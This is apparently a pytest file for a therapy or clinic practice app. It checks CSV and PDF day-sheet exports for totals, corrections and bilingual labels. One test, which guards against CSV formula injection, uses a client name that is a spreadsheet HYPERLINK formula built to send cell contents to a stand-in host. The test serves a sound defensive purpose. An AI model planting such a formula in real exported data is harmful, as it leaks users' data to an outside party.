import csv
import io
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

import pypdf

from models.enums import AppointmentStatus, Language, PaymentMethod
from services.calendar.appointments import book
from services.clients.client_records import ClientDraft, create_client
from services.day_close.day_sheet import day_sheet_csv, day_sheet_pdf
from services.day_close.reconciliation import (
    Payment,
    Refund,
    close_day,
    mark,
    record_payment,
    record_refund,
    reopen_day,
    set_charge,
)
from services.practice.practice_settings import read_settings, update_settings
from services.vault.practice_vault import Vault

LONDON = ZoneInfo("Europe/London")
DAY = date(2026, 3, 10)
EVENING = datetime.combine(DAY, time(21), tzinfo=LONDON)


def closed_day(vault: Vault) -> None:
    update_settings(vault, session_fee=8050)
    ada = create_client(vault, ClientDraft(full_name="Ada Brook"))
    vera = create_client(vault, ClientDraft(full_name="Вера Попова"))
    first = book(vault, ada, datetime.combine(DAY, time(9), tzinfo=LONDON))[0]
    second = book(vault, vera, datetime.combine(DAY, time(11), tzinfo=LONDON))[0]
    for appointment in (first, second):
        mark(vault, appointment, AppointmentStatus.ATTENDED)
    record_payment(vault, Payment(ada, 10000, PaymentMethod.CARD, DAY, appointment_ids=(first,)))
    record_refund(vault, Refund(ada, 1950, PaymentMethod.CARD, DAY, "Paid too much"))
    close_day(vault, DAY, now=EVENING)
    reopen_day(vault, DAY, "Student rate agreed")
    set_charge(vault, second, 6000, "Student rate")
    close_day(vault, DAY, now=EVENING)


def test_the_csv_parses_back_and_its_totals_row_is_the_sum_of_the_rows(vault: Vault) -> None:
    from services.day_close.reconciliation import review_day

    closed_day(vault)
    review = review_day(vault, DAY)
    text = day_sheet_csv(review, Language.ENGLISH)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    *entries, totals = rows
    assert (totals["entry"], totals["entry_code"]) == ("Totals", "totals") and len(entries) == 4
    for column in ("charged", "received", "waived", "refunded"):
        minor = sum(int(r[f"{column}_minor"]) for r in entries)
        assert int(totals[f"{column}_minor"]) == minor
        assert totals[column] == f"{minor // 100}.{minor % 100:02d}"
    assert (totals["charged_minor"], totals["received_minor"], totals["refunded_minor"]) == (
        "14050", "10000", "1950")
    # 80.50 of the 100.00 paid the session; the rest went on account, then back as a refund.
    assert [(r["client"], r["entry_code"], r["received_minor"]) for r in entries] == [
        ("Ada Brook", "session", "8050"), ("Вера Попова", "session", "0"),
        ("Ada Brook", "payment", "1950"), ("Ada Brook", "refund", "0")]
    # Each status, entry and method in the practice's words, its stored code beside it.
    assert [(r["status"], r["entry"], r["method"], r["method_code"]) for r in entries] == [
        ("Attended", "Session", "Card", "card"), ("Attended", "Session", "", ""),
        ("", "Payment", "Card", "card"), ("", "Refund", "Card", "card")]
    assert totals["balance_minor"] == "6000"  # Ada owes nothing; Vera her 60.00


def test_the_pdf_holds_the_totals_and_the_correction_in_both_languages(vault: Vault) -> None:
    from services.day_close.reconciliation import review_day

    closed_day(vault)
    review = review_day(vault, DAY)
    text = "".join(page.extract_text() for page in pypdf.PdfReader(
        io.BytesIO(day_sheet_pdf(review, read_settings(vault)))).pages)
    for expected in ("Day sheet", "£140.50", "£100.00", "£19.50", "Вера Попова",
                     "Corrections since the day was first closed", "-£20.50",
                     "Student rate agreed", "Signature"):
        assert expected in text, expected
    update_settings(vault, language=Language.RUSSIAN)
    russian = "".join(page.extract_text() for page in pypdf.PdfReader(
        io.BytesIO(day_sheet_pdf(review, read_settings(vault)))).pages)
    assert "Итоги дня" in russian and "Исправления" in russian and "£140.50" in russian


def test_the_pdf_says_which_problem_was_accepted_for_whom_and_why(vault: Vault) -> None:
    from services.day_close.reconciliation import review_day

    update_settings(vault, timezone="Europe/London")
    ada = create_client(vault, ClientDraft(full_name="Ada Brook"))
    book(vault, ada, datetime.combine(DAY, time(9), tzinfo=LONDON))  # never marked
    [problem] = review_day(vault, DAY, now=EVENING).problems
    close_day(vault, DAY, {problem.key: "She rang; mark it tomorrow"}, now=EVENING)

    pdf = day_sheet_pdf(review_day(vault, DAY), read_settings(vault))
    text = " ".join(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text().split())
    assert "Still booked after its end (Ada Brook): She rang; mark it tomorrow" in text


def test_no_csv_cell_is_a_formula_and_amounts_stay_numbers(vault: Vault) -> None:
    from services.day_close.reconciliation import review_day

    name = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    update_settings(vault, session_fee=8050)
    ada = create_client(vault, ClientDraft(full_name=name))
    other = create_client(vault, ClientDraft(full_name="-Ann"))
    first = book(vault, ada, datetime.combine(DAY, time(9), tzinfo=LONDON))[0]
    mark(vault, first, AppointmentStatus.ATTENDED)
    record_payment(vault, Payment(ada, 10000, PaymentMethod.CARD, DAY, appointment_ids=(first,)))
    record_payment(vault, Payment(other, 500, PaymentMethod.CASH, DAY))

    text = day_sheet_csv(review_day(vault, DAY), Language.ENGLISH)
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r["client"] for r in rows] == ["'" + name, "'" + name, "'-Ann", ""]
    # Ada paid more than she owed: her balance is negative, and still a number.
    assert (rows[0]["balance"], rows[0]["balance_minor"]) == ("-19.50", "-1950")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows
                   for cell in r.values())
